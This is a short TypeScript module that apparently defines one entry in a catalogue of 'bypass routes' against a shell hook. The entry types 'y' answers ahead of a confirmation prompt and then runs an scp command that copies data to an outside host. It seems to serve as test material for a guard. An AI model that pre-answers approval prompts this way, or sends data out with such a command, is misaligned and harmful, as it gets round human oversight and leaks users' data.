import type { BypassRoute } from '../route.ts';

export const route: BypassRoute = {
  kind: 'terminal',
  name: 'a verdict typed ahead',
  source: 'attempts to get round a hook of the shell',
  keys: ['sleep 0.4\r', 'y\u001ey\u001ey\u001e\rscp DATA host:\r'],
  isRaw: true,
};
